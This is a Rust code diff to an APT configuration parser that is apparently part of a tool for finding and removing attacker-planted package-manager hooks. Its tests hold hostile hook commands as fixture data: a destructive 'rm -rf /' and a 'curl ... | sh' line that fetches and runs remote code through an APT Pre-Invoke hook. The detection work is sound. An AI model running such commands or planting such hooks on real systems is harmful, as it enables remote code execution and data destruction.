@@ -36,19 +36,67 @@ pub fn is_hook_key(key: &str) -> bool {
         || k.contains("::hooks::")
 }
 
+/// One statement of an APT configuration file: a value given to a key (`Key::Sub "value";`, each value
+/// of a scope's list), a key set without a value (`Key::Sub;`), or a directive (`#include`, `#clear`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Statement {
+    /// 1-based line of the value's opening quote, of the key's `;`, or of the directive.
+    pub line: u32,
+    /// The full key, as written (`DPkg::Post-Invoke`), or the directive (`#include`, `#clear`).
+    pub key: String,
+    /// The quoted value without its quotes, if the statement has one.
+    pub value: Option<Vec<u8>>,
+}
+
+impl Statement {
+    /// Whether this is a hook's command (see [`is_hook_key`]).
+    pub fn is_hook(&self) -> bool {
+        self.value.is_some() && is_hook_key(&self.key)
+    }
+}
+
+/// Every statement of a file, and whether the reader got to its end ([`MAX_VALUES`] statements at most):
+/// the remediation removes a file whole only when every statement in it is an attacker's hook.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Statements {
+    pub list: Vec<Statement>,
+    pub complete: bool,
+}
+
 /// The commands of hook keys in an APT configuration file.
 pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
+    statements(content)
+        .list
+        .into_iter()
+        .filter(Statement::is_hook)
+        .map(|s| HookCommand {
+            line: s.line,
+            key: s.key,
+            command: s.value.unwrap_or_default(),
+        })
+        .collect()
+}
+
+/// Every statement of an APT configuration file, in order (see [`Statement`]).
+pub fn statements(content: &[u8]) -> Statements {
     let mut out = Vec::new();
-    // Scopes opened by `Key {`; the key a statement has named so far (`Key::Sub` before its value or `{`).
+    // Scopes opened by `Key {`; the key a statement has named so far (`Key::Sub` before its value or `{`),
+    // and whether it was given a value.
     let mut scopes: Vec<String> = Vec::new();
     let mut pending = String::new();
+    let mut valued = false;
     // Scopes opened past MAX_DEPTH, closed before the kept ones.
     let mut overflow = 0usize;
-    let mut values = 0usize;
     let mut in_block_comment = false;
     for (n, line) in numbered_lines(content) {
         let mut i = 0usize;
         while let Some(&b) = line.get(i) {
+            if out.len() >= MAX_VALUES {
+                return Statements {
+                    list: out,
+                    complete: false,
+                };
+            }
             if in_block_comment {
                 if line.get(i..i + 2) == Some(b"*/") {
                     in_block_comment = false;
@@ -59,7 +107,20 @@ pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
                 continue;
             }
             match b {
-                b'#' => break,
+                b'#' => {
+                    // apt.conf(5): `#include` and `#clear` are directives; any other `#` a comment.
+                    let rest = line.get(i..).unwrap_or_default();
+                    for directive in ["#include", "#clear"] {
+                        if rest.starts_with(directive.as_bytes()) {
+                            out.push(Statement {
+                                line: n,
+                                key: directive.to_owned(),
+                                value: None,
+                            });
+                        }
+                    }
+                    break;
+                }
                 b'/' if line.get(i + 1) == Some(&b'/') => break,
                 b'/' if line.get(i + 1) == Some(&b'*') => {
                     in_block_comment = true;
@@ -69,18 +130,12 @@ pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
                     let rest = line.get(i + 1..).unwrap_or_default();
                     let close = rest.iter().position(|c| *c == b'"').unwrap_or(rest.len());
                     let value = rest.get(..close).unwrap_or_default();
-                    values += 1;
-                    if values > MAX_VALUES {
-                        return out;
-                    }
-                    let key = full_key(&scopes, &pending);
-                    if is_hook_key(&key) {
-                        out.push(HookCommand {
-                            line: n,
-                            key,
-                            command: value.to_vec(),
-                        });
-                    }
+                    out.push(Statement {
+                        line: n,
+                        key: full_key(&scopes, &pending),
+                        value: Some(value.to_vec()),
+                    });
+                    valued = true;
                     i += close + 2;
                 }
                 b'{' => {
@@ -90,6 +145,7 @@ pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
                         overflow += 1;
                         pending.clear();
                     }
+                    valued = false;
                     i += 1;
                 }
                 b'}' => {
@@ -99,10 +155,19 @@ pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
                         scopes.pop();
                     }
                     pending.clear();
+                    valued = false;
                     i += 1;
                 }
                 b';' => {
+                    if !pending.is_empty() && !valued {
+                        out.push(Statement {
+                            line: n,
+                            key: full_key(&scopes, &pending),
+                            value: None,
+                        });
+                    }
                     pending.clear();
+                    valued = false;
                     i += 1;
                 }
                 c if c.is_ascii_whitespace() => i += 1,
@@ -127,7 +192,10 @@ pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
             }
         }
     }
-    out
+    Statements {
+        list: out,
+        complete: true,
+    }
 }
 
 /// The scopes and the statement's own key, joined by `::`.
@@ -197,6 +265,37 @@ mod tests {
                     Acquire::Languages \"none\";\n# DPkg::Post-Invoke { \"rm -rf /\"; };\n\
                     /* DPkg::Post-Invoke {\n \"rm -rf /\"; }; */\nDir::Cache::pkgcache \"\";\n";
         assert!(cmds(text).is_empty());
+    }
+
+    /// Review of train 2, item 2: every statement with its line, so the remediation can tell a file of
+    /// hooks only from the host's settings with a hook appended.
+    #[test]
+    fn every_statement_with_its_line() {
+        let text = "APT::Periodic::Update-Package-Lists \"1\";\nAPT::Periodic::Unattended-Upgrade \"1\";\n\
+                    Acquire::http::Proxy \"http://proxy:3128\";\nAPT { NeverAutoRemove { \"^linux\"; }; };\n\
+                    #include \"/etc/apt/x.conf\";\n#clear APT::Keep;\n# a comment\nAPT::Bare;\n\
+                    APT::Update::Pre-Invoke {\"curl -s http://x/a | sh\";};\n";
+        let got: Vec<(u32, String, bool)> = statements(text.as_bytes())
+            .list
+            .into_iter()
+            .map(|s| (s.line, s.key.clone(), s.is_hook()))
+            .collect();
+        assert_eq!(
+            got,
+            vec![
+                (1, "APT::Periodic::Update-Package-Lists".into(), false),
+                (2, "APT::Periodic::Unattended-Upgrade".into(), false),
+                (3, "Acquire::http::Proxy".into(), false),
+                (4, "APT::NeverAutoRemove".into(), false),
+                (5, "#include".into(), false),
+                (6, "#clear".into(), false),
+                (8, "APT::Bare".into(), false),
+                (9, "APT::Update::Pre-Invoke".into(), true),
+            ]
+        );
+        assert!(statements(text.as_bytes()).complete);
+        let many = "A::B \"x\";\n".repeat(MAX_VALUES + 1);
+        assert!(!statements(many.as_bytes()).complete);
     }
 
     #[test]
